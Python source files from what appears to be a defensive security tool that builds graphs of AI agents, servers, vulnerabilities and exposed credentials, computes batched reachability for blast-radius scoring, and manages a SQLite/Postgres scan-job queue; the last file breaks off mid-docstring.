                        server_id, "lateral_hub_agent_count", len(agent_ids)
                    )
                continue
            for i, a in enumerate(agent_ids):
                for b in agent_ids[i + 1 :]:
                    self.add_edge(
                        UnifiedEdge(
                            source=a,
                            target=b,
                            relationship=RelationshipType.SHARES_SERVER,
                            direction="bidirectional",
                            evidence={"server": server_id},
                        )
                    )

    def _add_sast_nodes(self, sast_data: dict[str, Any] | None) -> None:
        """Streaming twin of builder._add_sast_nodes."""
        if not sast_data:
            return
        for server_key, result in (sast_data.get("per_server") or {}).items():
            server_id = _node_id("server", str(server_key))
            source_root = str(result.get("source_root") or "")
            # Same credential-node keying as the in-memory twin: server
            # NAME (config-minted node key), canonical-id fallback.
            cred_server = str(result.get("server_name") or server_key)
            seen_cred_edges: set[tuple[str, str]] = set()
            for edge in result.get("call_edges") or []:
                if not isinstance(edge, (list, tuple)) or len(edge) != 2:
                    continue
                caller_id = self._sast_file_node(
                    str(server_key), server_id, source_root, str(edge[0])
                )
                callee_id = self._sast_file_node(
                    str(server_key), server_id, source_root, str(edge[1])
                )
                self.add_edge(
                    UnifiedEdge(
                        source=caller_id,
                        target=callee_id,
                        relationship=RelationshipType.CALLS,
                    )
                )
            for raw in result.get("findings") or []:
                path = str(raw.get("file") or "")
                file_id = self._sast_file_node(str(server_key), server_id, source_root, path)
                severity = str(raw.get("severity") or "unknown")
                finding_id = _node_id(
                    "vuln", "sast", str(raw.get("rule") or ""), path, str(raw.get("line") or "")
                )
                self.add_node(
                    UnifiedNode(
                        id=finding_id,
                        entity_type=EntityType.VULNERABILITY,
                        label=f"{raw.get('rule')}@{path}:{raw.get('line')}",
                        severity=severity,
                        risk_score=_SEV_RISK.get(severity, 1.0),
                        status=NodeStatus.ACTIVE,
                        attributes={
                            "rule": raw.get("rule"),
                            "cwe": raw.get("cwe"),
                            "line": raw.get("line"),
                            "tainted": bool(raw.get("tainted")),
                            "taint_path": list(raw.get("taint_path") or []),
                            "call_chains": list(raw.get("call_chains") or []),
                        },
                    )
                )
                self.add_edge(
                    UnifiedEdge(
                        source=file_id,
                        target=finding_id,
                        relationship=RelationshipType.VULNERABLE_TO,
                        weight=min(_SEV_RISK.get(severity, 1.0), 10.0),
                    )
                )
                for cred in raw.get("credentials") or []:
                    cred_id = _node_id("credential", cred_server, str(cred))
                    if cred_id not in self._intern:
                        self.add_node(
                            UnifiedNode(
                                id=cred_id,
                                entity_type=EntityType.CREDENTIAL,
                                label=str(cred),
                                risk_score=5.0,
                            )
                        )
                    if (file_id, cred_id) in seen_cred_edges:
                        continue
                    seen_cred_edges.add((file_id, cred_id))
                    self.add_edge(
                        UnifiedEdge(
                            source=file_id,
                            target=cred_id,
                            relationship=RelationshipType.EXPOSES_CRED,
                        )
                    )

    def _sast_file_node(
        self, server_key: str, server_id: str, source_root: str, path: str
    ) -> str:
        file_id = _node_id("source_file", server_key, path)
        if file_id not in self._intern:
            self.add_node(
                UnifiedNode(
                    id=file_id,
                    entity_type=EntityType.SOURCE_FILE,
                    label=path,
                    attributes={"server": server_key, "source_root": source_root},
                )
            )
            if server_id in self._intern:
                self.add_edge(
                    UnifiedEdge(
                        source=server_id,
                        target=file_id,
                        relationship=RelationshipType.CONTAINS,
                    )
                )
        return file_id

    # ── finalize ────────────────────────────────────────────────────────

    def finalize(
        self,
        sast_data: dict[str, Any] | None = None,
        document_extra: dict[str, Any] | None = None,
    ) -> dict[str, Any]:
        """Cross-chunk passes (EXPLOITABLE_VIA, lateral, SAST), final
        flush, and snapshot sealing. Returns a build summary; the
        snapshot stays staged until the caller commits it."""
        if self._finalized:
            raise RuntimeError("StreamingGraphBuilder.finalize() called twice")
        self._finalized = True
        record_dispatch("graph_build", "stream")
        with span("graph_build:stream") as sp, _gc_paused():
            for vid, row in self._vuln_rows.items():
                self._add_exploitable_via(vid, row)
            self._emit_lateral_edges()
            self._add_sast_nodes(sast_data)
            self.flush()
            extra: dict[str, Any] = {"metadata": self.metadata}
            if document_extra:
                extra.update(document_extra)
            self.store.finalize_streamed_snapshot(
                self.snapshot_id, self.node_count, self.edge_count, extra
            )
            sp.set("nodes", self.node_count)
            sp.set("edges", self.edge_count)
            sp.set("chunks", self.chunks_flushed)
        return {
            "snapshot_id": self.snapshot_id,
            "nodes": self.node_count,
            "edges": self.edge_count,
            "chunks": self.chunks_flushed,
            "csr_rows": len(self.csr_src),
        }
