"""Graph-walk dependency reachability engine — batched on blastcore.

Reference parity: src/agent_bom/graph/dependency_reach.py:109
(compute_dependency_reach, per-source BFS at :169) and blast_reach.py:53
(apply_dependency_reachability_to_blast_radii). Same two questions per
vulnerability — reachable from any agent? shortest hop distance? — but
pass 1 runs ALL agents as one multi-source frontier-sweep batch on the
graph kernel ([S_agents, N] distance matrix in ≤max-depth sweeps)
instead of a Python BFS per agent.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from agent_bom_trn import config
from agent_bom_trn.engine.telemetry import stage_timer
from agent_bom_trn.graph.container import UnifiedGraph
from agent_bom_trn.graph.types import EntityType, RelationshipType

_REACH_EDGE_TYPES = [
    RelationshipType.USES,
    RelationshipType.DEPENDS_ON,
    RelationshipType.CONTAINS,
    RelationshipType.PROVIDES_TOOL,
    # SOURCE_FILE → SOURCE_FILE call-graph edges (interprocedural SAST):
    # agents reach a callee's finding through the files that call it.
    RelationshipType.CALLS,
]

_VULN_TO_PACKAGE_EDGE_TYPES = frozenset(
    {RelationshipType.AFFECTS, RelationshipType.VULNERABLE_TO}
)

_MAX_REACH_DEPTH = 12


@dataclass(frozen=True)
class PackageReachability:
    package_id: str
    reachable_from: tuple[str, ...]  # capped list (deterministic, sorted inputs)
    min_hop_distance: int
    reaching_count: int = 0  # exact count, NOT capped

    @property
    def reachable(self) -> bool:
        return self.reaching_count > 0 or bool(self.reachable_from)


@dataclass(frozen=True)
class VulnerabilityReachability:
    vulnerability_id: str
    package_ids: tuple[str, ...]
    reachable_from: tuple[str, ...]  # capped union of per-package lists
    min_hop_distance: int
    reaching_count: int = 0  # lower bound: max exact count across packages

    @property
    def reachable(self) -> bool:
        return self.reaching_count > 0 or bool(self.reachable_from)


@dataclass(frozen=True)
class ReachabilityReport:
    packages: dict[str, PackageReachability]
    vulnerabilities: dict[str, VulnerabilityReachability]

    @property
    def reachable_vulnerability_ids(self) -> tuple[str, ...]:
        return tuple(
            sorted(v.vulnerability_id for v in self.vulnerabilities.values() if v.reachable)
        )


# Agents are swept in batches so the [S, N] distance matrix stays bounded
# (a 5k-agent × 50k-node estate would otherwise materialize ~1 GB host-side;
# the device path streams the same batches through SBUF-resident tiles).
# Batch size is a config knob (AGENT_BOM_REACH_AGENT_BATCH); per-batch
# reach sets barely overlap on skewed estates, so both the host twin and
# the device sweep scale ~quadratically with batch size — see config.py.
_AGENT_BATCH = config.REACH_AGENT_BATCH
# Per-package reaching-agent names are capped for the report join; the full
# count is preserved separately.
_MAX_REACHING_AGENTS_LISTED = 50


def _aligned_agent_batch() -> int:
    """REACH_AGENT_BATCH rounded UP to a whole number of pack words.

    The bit-packed sweep allocates ⌈B/word⌉ whole words per node row, so
    a misaligned batch pays for lanes it never fills (a stray 510 at
    64-bit words allocates 8 planes and wastes 62 lanes — silently, but
    visible in the ``bitpack:lane_occupancy`` gauge). Rounding up never
    increases the plane count a batch was already paying for. Batches
    of at most one word are left alone: they occupy a single plane
    regardless, so alignment cannot help them and deliberate small-
    batch overrides (tests, tiny estates) keep their granularity. See
    the knob interaction note in config.py.
    """
    word = max(int(config.ENGINE_BITPACK_WORD), 1)
    batch = max(int(_AGENT_BATCH), 1)
    if batch <= word:
        return batch
    return batch + ((-batch) % word)


def _batched_target_reach(
    graph: UnifiedGraph,
    agent_ids: list[str],
    target_ids: list[str],
    relationships: list[RelationshipType] | None = None,
) -> tuple[np.ndarray, list[list[str]], np.ndarray]:
    """All-agents → target-columns sweep (pass 1, generic over targets).

    Returns ``(min_dist, reaching_lists, reaching_counts)`` per target:
    min hop distance, the capped sorted-batch-order agent-id list, and
    the exact reaching-agent count. Targets are any node-id list
    (packages for the vuln join, SOURCE_FILE nodes for SAST fan-out,
    CREDENTIAL nodes for the cred-flow join). ``relationships`` widens
    or narrows the edge filter (default ``_REACH_EDGE_TYPES``).

    Two implementations share this contract bit-for-bit:

    - the fused bit-packed sweep (default, ``AGENT_BOM_REACH_FUSED_JOIN``)
      — min distance, counts and capped lists are recovered from
      ``first_depth`` + packed reach words without ever materializing a
      per-source distance block;
    - the legacy [B, T] distance-column join, kept as the differential
      twin (`REACH_FUSED_JOIN=0`) and exercised against the fused path
      in tests/engine/test_bitpack_bfs.py.
    """
    if config.REACH_FUSED_JOIN:
        return _fused_target_reach(graph, agent_ids, target_ids, relationships)
    return _legacy_target_reach(graph, agent_ids, target_ids, relationships)


def _fused_target_reach(
    graph: UnifiedGraph,
    agent_ids: list[str],
    target_ids: list[str],
    relationships: list[RelationshipType] | None = None,
) -> tuple[np.ndarray, list[list[str]], np.ndarray]:
    """Fused bit-packed pass 1: the join consumes packed reach words.

    Per word-aligned batch the kernel emits only ``first_depth`` ([T]
    int32 min-over-batch distance) and the targets' visited bit rows
    ([T, W] words): popcount gives exact counts, and capped lists
    unpack ONLY the target rows still under cap (little-endian bit
    order = ascending source index = the exact order the legacy
    column-major nonzero appended in, so capped prefixes stay
    byte-identical).
    """
    from agent_bom_trn.engine.bitpack_bfs import row_popcount, unpack_bits  # noqa: PLC0415

    cv = graph.compiled
    target_idx = np.asarray([cv.node_index[t] for t in target_ids], dtype=np.int64)
    n_targets = len(target_ids)
    min_dist = np.full(n_targets, np.iinfo(np.int32).max, dtype=np.int64)
    reaching_lists: list[list[str]] = [[] for _ in range(n_targets)]
    reaching_counts = np.zeros(n_targets, dtype=np.int64)
    lens = np.zeros(n_targets, dtype=np.int64)  # len(reaching_lists[j]) mirror

    sweeps = graph.packed_target_reach_batched(
        agent_ids,
        _MAX_REACH_DEPTH,
        relationships=relationships if relationships is not None else _REACH_EDGE_TYPES,
        batch=_aligned_agent_batch(),
        target_idx=target_idx,
    )
    while True:
        with stage_timer("reach:bfs"):
            try:
                batch, first_depth, words = next(sweeps)  # [T], [T, W]
            except StopIteration:
                break
        with stage_timer("reach:join"):
            counts_batch = row_popcount(words)
            reached_any = counts_batch > 0
            masked = np.where(
                reached_any, first_depth.astype(np.int64), np.iinfo(np.int32).max
            )
            min_dist = np.minimum(min_dist, masked)
            reaching_counts += counts_batch
            room = _MAX_REACHING_AGENTS_LISTED - lens
            need = np.nonzero((room > 0) & reached_any)[0]
            if need.size:
                # Unpack bit rows only for cap-eligible targets: [need, B]
                # bool in ascending source order (see unpack_bits).
                unpacked = unpack_bits(words[need], len(batch))
                cols_k, rows = np.nonzero(unpacked)
                grp_counts = counts_batch[need]
                offsets = np.concatenate(([0], np.cumsum(grp_counts[:-1])))
                pos = np.arange(rows.size) - offsets[cols_k]
                take = pos < room[need][cols_k]
                rows_t = rows[take]
                take_counts = np.bincount(cols_k[take], minlength=need.size)
                starts = np.concatenate(([0], np.cumsum(take_counts)))
                batch_arr = np.asarray(batch, dtype=object)
                for k in np.nonzero(take_counts)[0]:
                    seg = rows_t[starts[k] : starts[k + 1]]
                    reaching_lists[need[k]].extend(batch_arr[seg].tolist())
                lens[need] += take_counts
    return min_dist, reaching_lists, reaching_counts


def _legacy_target_reach(
    graph: UnifiedGraph,
    agent_ids: list[str],
    target_ids: list[str],
    relationships: list[RelationshipType] | None = None,
) -> tuple[np.ndarray, list[list[str]], np.ndarray]:
    """Legacy pass 1: [B, T] distance-column join (the differential twin)."""
    cv = graph.compiled
    target_idx = np.asarray([cv.node_index[t] for t in target_ids], dtype=np.int64)
    n_targets = len(target_ids)
    min_dist = np.full(n_targets, np.iinfo(np.int32).max, dtype=np.int64)
    reaching_lists: list[list[str]] = [[] for _ in range(n_targets)]
    reaching_counts = np.zeros(n_targets, dtype=np.int64)
    lens = np.zeros(n_targets, dtype=np.int64)  # len(reaching_lists[j]) mirror
    # One warm [B, T] target-column buffer reused by every batch: the
    # kernel writes the gathered target columns straight into it, so the
    # full [B, N] table (and its cold page faults) never materializes.
    buf = np.empty((min(_AGENT_BATCH, len(agent_ids)), n_targets), dtype=np.int32)

    # One fused generator serves every batch: edge view, id→index
    # resolution and the TraversalPlan digest lookup happen once instead
    # of once per batch (multi_source_distances_batched).
    sweeps = graph.multi_source_distances_batched(
        agent_ids,
        _MAX_REACH_DEPTH,
        relationships=relationships if relationships is not None else _REACH_EDGE_TYPES,
        batch=_AGENT_BATCH,
        cols=target_idx,
        out=buf,
    )
    while True:
        with stage_timer("reach:bfs"):
            try:
                batch, target_dist = next(sweeps)  # [B, T]
            except StopIteration:
                break
        with stage_timer("reach:join"):
            reached = target_dist >= 0
            masked = np.where(reached, target_dist, np.iinfo(np.int32).max)
            min_dist = np.minimum(min_dist, masked.min(axis=0))
            counts_batch = reached.sum(axis=0)
            reaching_counts += counts_batch
            # Collect capped agent-name lists only for targets still under
            # cap, vectorized: one nonzero over the (cap-eligible, reached)
            # submatrix replaces the per-target Python loop. np.nonzero on
            # the transposed view yields column-major order — ascending row
            # within each target column — exactly the order the scalar loop
            # appended in, so the capped prefixes are byte-identical.
            room = _MAX_REACHING_AGENTS_LISTED - lens
            need = np.nonzero((room > 0) & (counts_batch > 0))[0]
            if need.size:
                cols_k, rows = np.nonzero(reached[:, need].T)
                grp_counts = counts_batch[need]
                offsets = np.concatenate(([0], np.cumsum(grp_counts[:-1])))
                pos = np.arange(rows.size) - offsets[cols_k]
                take = pos < room[need][cols_k]
                rows_t = rows[take]
                take_counts = np.bincount(cols_k[take], minlength=need.size)
                starts = np.concatenate(([0], np.cumsum(take_counts)))
                batch_arr = np.asarray(batch, dtype=object)
                for k in np.nonzero(take_counts)[0]:
                    seg = rows_t[starts[k] : starts[k + 1]]
                    reaching_lists[need[k]].extend(batch_arr[seg].tolist())
                lens[need] += take_counts
    return min_dist, reaching_lists, reaching_counts


def compute_dependency_reach(graph: UnifiedGraph) -> ReachabilityReport:
    """All-agents reachability in batched frontier sweeps + vuln join."""
    # Sorted inputs ⇒ deterministic batch order ⇒ stable capped lists.
    # Iteration protocol (PR 15): also served by the store-backed lazy
    # graph, which streams node ids without hydrating documents.
    agent_ids = sorted(graph.iter_node_ids(EntityType.AGENT))
    package_nodes = list(graph.iter_node_ids(EntityType.PACKAGE))
    if not agent_ids or not package_nodes:
        return ReachabilityReport(packages={}, vulnerabilities={})

    min_dist, reaching_lists, reaching_counts = _batched_target_reach(
        graph, agent_ids, package_nodes
    )

    packages: dict[str, PackageReachability] = {}
    for j, pkg_id in enumerate(package_nodes):
        if reaching_counts[j]:
            packages[pkg_id] = PackageReachability(
                package_id=pkg_id,
                reachable_from=tuple(sorted(reaching_lists[j])),
                min_hop_distance=int(min_dist[j]),
                reaching_count=int(reaching_counts[j]),
            )
        else:
            packages[pkg_id] = PackageReachability(
                package_id=pkg_id, reachable_from=(), min_hop_distance=0, reaching_count=0
            )

    # Pass 2 — vulnerability → affected packages union.
    vulnerabilities: dict[str, VulnerabilityReachability] = {}
    vuln_packages: dict[str, set[str]] = {}
    for edge in graph.iter_edges(_VULN_TO_PACKAGE_EDGE_TYPES):
        # VULNERABLE_TO: package → vuln; AFFECTS: vuln → package.
        if edge.relationship == RelationshipType.VULNERABLE_TO:
            vuln_id, pkg_id = edge.target, edge.source
        else:
            vuln_id, pkg_id = edge.source, edge.target
        vuln_packages.setdefault(vuln_id, set()).add(pkg_id)

    for vuln_id, pkg_ids in vuln_packages.items():
        reaching: set[str] = set()
        min_hop = 0
        count = 0
        hops = []
        for pkg_id in pkg_ids:
            pr = packages.get(pkg_id)
            if pr is not None and pr.reachable:
                reaching.update(pr.reachable_from)
                hops.append(pr.min_hop_distance)
                count = max(count, pr.reaching_count)
        if hops:
            min_hop = min(hops)
        vulnerabilities[vuln_id] = VulnerabilityReachability(
            vulnerability_id=vuln_id,
            package_ids=tuple(sorted(pkg_ids)),
            reachable_from=tuple(sorted(reaching)),
            min_hop_distance=min_hop,
            reaching_count=max(count, len(reaching)),
        )
    return ReachabilityReport(packages=packages, vulnerabilities=vulnerabilities)


def apply_dependency_reachability_to_blast_radii(
    blast_radii: list, graph: UnifiedGraph, report: ReachabilityReport | None = None
) -> ReachabilityReport:
    """Join reach results onto BlastRadius rows + rescore
    (reference: graph/blast_reach.py:53)."""
    from agent_bom_trn.engine.score import score_blast_radii  # noqa: PLC0415

    if report is None:
        report = compute_dependency_reach(graph)
    agent_labels = {n.id: n.label for n in graph.iter_nodes(EntityType.AGENT)}
    for br in blast_radii:
        vuln_node_id = f"vuln:{br.vulnerability.id}"
        vr = report.vulnerabilities.get(vuln_node_id)
        if vr is None:
            continue
        br.graph_reachable = vr.reachable
        br.graph_min_hop_distance = vr.min_hop_distance if vr.reachable else None
        br.graph_reachable_from_agents = [
            agent_labels.get(a, a) for a in vr.reachable_from
        ]
        br.graph_reachable_agent_count = vr.reaching_count
    score_blast_radii(blast_radii)
    return report


@dataclass(frozen=True)
class SourceFileReachability:
    node_id: str
    reachable_from: tuple[str, ...]  # capped, agent node ids
    min_hop_distance: int
    reaching_count: int = 0  # exact count, NOT capped

    @property
    def reachable(self) -> bool:
        return self.reaching_count > 0


def compute_source_file_reach(graph: UnifiedGraph) -> dict[str, SourceFileReachability]:
    """Agent → SOURCE_FILE reachability via the same batched sweep.

    SOURCE_FILE nodes hang off servers via CONTAINS (graph/builder.py
    _add_sast_nodes), and CONTAINS is in ``_REACH_EDGE_TYPES`` — so a
    SAST finding's blast radius is the agents whose USES→CONTAINS chain
    lands on its file node. Interprocedural CALLS edges between file
    nodes are in the reach set too, so the sweep also reaches a callee
    file through the files that call into it. Reuses pass 1 with file
    nodes as the target columns; no new kernel work.
    """
    agent_ids = sorted(graph.iter_node_ids(EntityType.AGENT))
    file_nodes = list(graph.iter_node_ids(EntityType.SOURCE_FILE))
    if not agent_ids or not file_nodes:
        return {}
    min_dist, reaching_lists, reaching_counts = _batched_target_reach(
        graph, agent_ids, file_nodes
    )
    out: dict[str, SourceFileReachability] = {}
    for j, node_id in enumerate(file_nodes):
        if reaching_counts[j]:
            out[node_id] = SourceFileReachability(
                node_id=node_id,
                reachable_from=tuple(sorted(reaching_lists[j])),
                min_hop_distance=int(min_dist[j]),
                reaching_count=int(reaching_counts[j]),
            )
        else:
            out[node_id] = SourceFileReachability(
                node_id=node_id, reachable_from=(), min_hop_distance=0, reaching_count=0
            )
    return out


@dataclass(frozen=True)
class CredentialReachability:
    node_id: str
    reachable_from: tuple[str, ...]  # capped, agent node ids
    min_hop_distance: int
    reaching_count: int = 0  # exact count, NOT capped

    @property
    def reachable(self) -> bool:
        return self.reaching_count > 0


def compute_credential_reach(graph: UnifiedGraph) -> dict[str, CredentialReachability]:
    """Agent → CREDENTIAL reachability: the cred-flow blast join.

    CREDENTIAL nodes are minted two ways — from config env blocks
    (server → EXPOSES_CRED → credential, builder._add_server) and from
    SAST exfil findings (source_file → EXPOSES_CRED → credential,
    builder._add_sast_nodes; both keyed on the server NAME so they
    merge). Widening pass 1's edge filter with EXPOSES_CRED makes a
    credential reachable exactly when an agent's USES→CONTAINS/CALLS
    chain lands on a file (or server) that exposes it — i.e. "which
    agents can leak this credential", same sweep, one extra edge type.
    """
    agent_ids = sorted(graph.iter_node_ids(EntityType.AGENT))
    cred_nodes = list(graph.iter_node_ids(EntityType.CREDENTIAL))
    if not agent_ids or not cred_nodes:
        return {}
    min_dist, reaching_lists, reaching_counts = _batched_target_reach(
        graph,
        agent_ids,
        cred_nodes,
        relationships=_REACH_EDGE_TYPES + [RelationshipType.EXPOSES_CRED],
    )
    out: dict[str, CredentialReachability] = {}
    for j, node_id in enumerate(cred_nodes):
        if reaching_counts[j]:
            out[node_id] = CredentialReachability(
                node_id=node_id,
                reachable_from=tuple(sorted(reaching_lists[j])),
                min_hop_distance=int(min_dist[j]),
                reaching_count=int(reaching_counts[j]),
            )
        else:
            out[node_id] = CredentialReachability(
                node_id=node_id, reachable_from=(), min_hop_distance=0, reaching_count=0
            )
    return out
