"""Control plane — self-hosted REST API over the scan + graph engines.

Reference parity: src/agent_bom/api/ (FastAPI app, ~44 route modules,
middleware stack, SQLite/Postgres stores, scan pipeline with SSE steps).
The trn image carries no ASGI stack, so the server is a stdlib
ThreadingHTTPServer with an explicit router + middleware chain — same
/v1/* wire contract.
"""
