"""Distributed scan queue: atomic claim across replicas.

Reference parity: src/agent_bom/api/scan_queue.py +
scan_job_reconciliation.py — multiple API replicas share one scan queue
and claim jobs atomically. Two backends behind one contract:

- SQLite (reference implementation for single-host multi-process):
  BEGIN IMMEDIATE + claim-by-rowid update — the file lock makes the
  claim atomic across processes sharing the database file.
- Postgres (multi-replica): ``FOR UPDATE SKIP LOCKED`` claim, the same
  pattern the reference uses.

Stale claims (worker died mid-scan) are reclaimed by any replica once
their heartbeat ages past the visibility timeout — the reference's
job-reconciliation behavior.
"""

from __future__ import annotations

import json
import sqlite3
import threading
import time
import uuid
from pathlib import Path
from typing import Any

_SQLITE_DDL = """
CREATE TABLE IF NOT EXISTS scan_queue (
    id TEXT PRIMARY KEY,
    tenant_id TEXT NOT NULL,
    request TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'queued',
    enqueued_at REAL NOT NULL,
    claimed_by TEXT,
    claimed_at REAL,
    heartbeat_at REAL,
    finished_at REAL,
    error TEXT
);
CREATE INDEX IF NOT EXISTS idx_queue_status ON scan_queue (status, enqueued_at);
"""


class SQLiteScanQueue:
    """Cross-process claim queue over one SQLite file."""

    def __init__(self, path: str | Path) -> None:
        self.path = str(path)
        self._lock = threading.RLock()
        self._conn = sqlite3.connect(self.path, check_same_thread=False, timeout=10.0)
        self._conn.executescript(_SQLITE_DDL)
        self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    def enqueue(self, request: dict[str, Any], tenant_id: str = "default",
                job_id: str | None = None) -> str:
        job_id = job_id or str(uuid.uuid4())
        with self._lock:
            self._conn.execute(
                "INSERT INTO scan_queue (id, tenant_id, request, status, enqueued_at)"
                " VALUES (?, ?, ?, 'queued', ?)",
                (job_id, tenant_id, json.dumps(request), time.time()),
            )
            self._conn.commit()
        return job_id

    def claim(self, worker_id: str) -> dict[str, Any] | None:
        """Atomically claim the oldest queued job (BEGIN IMMEDIATE =
        cross-process write lock, so two replicas can't claim one row)."""
        now = time.time()
        with self._lock:
            try:
                self._conn.execute("BEGIN IMMEDIATE")
            except sqlite3.OperationalError:
                return None  # another replica holds the write lock; retry later
            try:
                row = self._conn.execute(
                    "SELECT id, tenant_id, request FROM scan_queue"
                    " WHERE status = 'queued' ORDER BY enqueued_at LIMIT 1"
                ).fetchone()
                if row is None:
                    self._conn.execute("COMMIT")
                    return None
                self._conn.execute(
                    "UPDATE scan_queue SET status = 'claimed', claimed_by = ?,"
                    " claimed_at = ?, heartbeat_at = ? WHERE id = ? AND status = 'queued'",
                    (worker_id, now, now, row[0]),
                )
                self._conn.execute("COMMIT")
            except sqlite3.Error:
                self._conn.execute("ROLLBACK")
                raise
        return {"id": row[0], "tenant_id": row[1], "request": json.loads(row[2])}

    def heartbeat(self, job_id: str, worker_id: str) -> bool:
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET heartbeat_at = ? WHERE id = ? AND claimed_by = ?"
                " AND status = 'claimed'",
                (time.time(), job_id, worker_id),
            )
            self._conn.commit()
            return cur.rowcount > 0

    def complete(self, job_id: str, worker_id: str) -> bool:
        return self._finish(job_id, worker_id, "done", None)

    def fail(self, job_id: str, worker_id: str, error: str) -> bool:
        return self._finish(job_id, worker_id, "failed", error[:2000])

    def _finish(self, job_id: str, worker_id: str, status: str, error: str | None) -> bool:
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET status = ?, finished_at = ?, error = ?"
                " WHERE id = ? AND claimed_by = ?",
                (status, time.time(), error, job_id, worker_id),
            )
            self._conn.commit()
            return cur.rowcount > 0

    def reclaim_stale(self, visibility_timeout_s: float = 600.0) -> int:
        """Claimed jobs whose worker stopped heartbeating go back to queued."""
        cutoff = time.time() - visibility_timeout_s
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                " claimed_at = NULL, heartbeat_at = NULL"
                " WHERE status = 'claimed' AND heartbeat_at < ?",
                (cutoff,),
            )
            self._conn.commit()
            return cur.rowcount

    def counts(self) -> dict[str, int]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT status, COUNT(*) FROM scan_queue GROUP BY status"
            ).fetchall()
        return {status: count for status, count in rows}


_PG_DDL = """
CREATE TABLE IF NOT EXISTS scan_queue (
    id TEXT PRIMARY KEY,
    tenant_id TEXT NOT NULL,
    request TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'queued',
    enqueued_at DOUBLE PRECISION NOT NULL,
    claimed_by TEXT,
    claimed_at DOUBLE PRECISION,
    heartbeat_at DOUBLE PRECISION,
    finished_at DOUBLE PRECISION,
    error TEXT
);
CREATE INDEX IF NOT EXISTS idx_queue_status ON scan_queue (status, enqueued_at);
"""


class PostgresScanQueue:
    """FOR UPDATE SKIP LOCKED claim queue (multi-replica deployments)."""

    def __init__(self, dsn: str) -> None:
        import psycopg  # noqa: PLC0415 - gated dependency

        self._conn = psycopg.connect(dsn, autocommit=False)
        self._lock = threading.RLock()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(_PG_DDL)
            self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    def enqueue(self, request: dict[str, Any], tenant_id: str = "default",
                job_id: str | None = None) -> str:
        job_id = job_id or str(uuid.uuid4())
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO scan_queue (id, tenant_id, request, status, enqueued_at)"
                " VALUES (%s, %s, %s, 'queued', %s)",
                (job_id, tenant_id, json.dumps(request), time.time()),
            )
            self._conn.commit()
        return job_id

    def claim(self, worker_id: str) -> dict[str, Any] | None:
        now = time.time()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id, tenant_id, request FROM scan_queue"
                " WHERE status = 'queued' ORDER BY enqueued_at"
                " LIMIT 1 FOR UPDATE SKIP LOCKED"
            )
            row = cur.fetchone()
            if row is None:
                self._conn.commit()
                return None
            cur.execute(
                "UPDATE scan_queue SET status = 'claimed', claimed_by = %s,"
                " claimed_at = %s, heartbeat_at = %s WHERE id = %s",
                (worker_id, now, now, row[0]),
            )
            self._conn.commit()
        return {"id": row[0], "tenant_id": row[1], "request": json.loads(row[2])}

    def heartbeat(self, job_id: str, worker_id: str) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET heartbeat_at = %s WHERE id = %s AND claimed_by = %s"
                " AND status = 'claimed'",
                (time.time(), job_id, worker_id),
            )
            changed = cur.rowcount > 0
            self._conn.commit()
            return changed

    def complete(self, job_id: str, worker_id: str) -> bool:
        return self._finish(job_id, worker_id, "done", None)

    def fail(self, job_id: str, worker_id: str, error: str) -> bool:
        return self._finish(job_id, worker_id, "failed", error[:2000])

    def _finish(self, job_id: str, worker_id: str, status: str, error: str | None) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = %s, finished_at = %s, error = %s"
                " WHERE id = %s AND claimed_by = %s",
                (status, time.time(), error, job_id, worker_id),
            )
            changed = cur.rowcount > 0
            self._conn.commit()
            return changed

    def reclaim_stale(self, visibility_timeout_s: float = 600.0) -> int:
        cutoff = time.time() - visibility_timeout_s
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                " claimed_at = NULL, heartbeat_at = NULL"
                " WHERE status = 'claimed' AND heartbeat_at < %s",
                (cutoff,),
            )
            changed = cur.rowcount
            self._conn.commit()
            return changed

    def counts(self) -> dict[str, int]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute("SELECT status, COUNT(*) FROM scan_queue GROUP BY status")
            rows = cur.fetchall()
            self._conn.commit()
        return {status: int(count) for status, count in rows}


def make_scan_queue(url_or_path: str):
    """postgres:// DSNs → PostgresScanQueue; anything else → SQLite file."""
    if url_or_path.startswith(("postgres://", "postgresql://")):
        return PostgresScanQueue(url_or_path)
    return SQLiteScanQueue(url_or_path)
