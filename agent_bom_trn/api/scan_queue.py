"""Distributed scan queue: atomic claim across replicas.

Reference parity: src/agent_bom/api/scan_queue.py +
scan_job_reconciliation.py — multiple API replicas share one scan queue
and claim jobs atomically. Two backends behind one contract:

- SQLite (reference implementation for single-host multi-process):
  BEGIN IMMEDIATE + claim-by-rowid update — the file lock makes the
  claim atomic across processes sharing the database file.
- Postgres (multi-replica): ``FOR UPDATE SKIP LOCKED`` claim, the same
  pattern the reference uses.

Delivery is at-least-once with bounded redelivery: every claim counts an
attempt, a retryable failure requeues with exponential backoff
(``not_before`` gates visibility), and a job that fails its final
attempt lands in the terminal ``dead_letter`` status instead of
retrying forever. Stale claims (worker died mid-scan) are reclaimed by
any replica once their heartbeat ages past the visibility timeout —
preserving the attempt count, so a crash-looping job still dead-letters.

Sharding (PR 20): ``ShardedScanQueue`` splits the SQLite write domain
into ``AGENT_BOM_QUEUE_SHARDS`` independent files (shard 0 keeps the
original path, so pre-shard databases upgrade in place). Rows route by
``crc32(id) % shards`` — deterministic, so any process can locate a
job's shard from its id alone, with no directory table. A claimant
tries its hash-affine shard first (``queue:shard_claim``) and steals
from the others only when it drains (``queue:steal``): under load every
claim transaction touches exactly one shard's write lock instead of the
estate-wide convoy. Work items carry a ``kind`` (``scan`` parent jobs,
``slice`` child items fanned out of a differential scan) and a
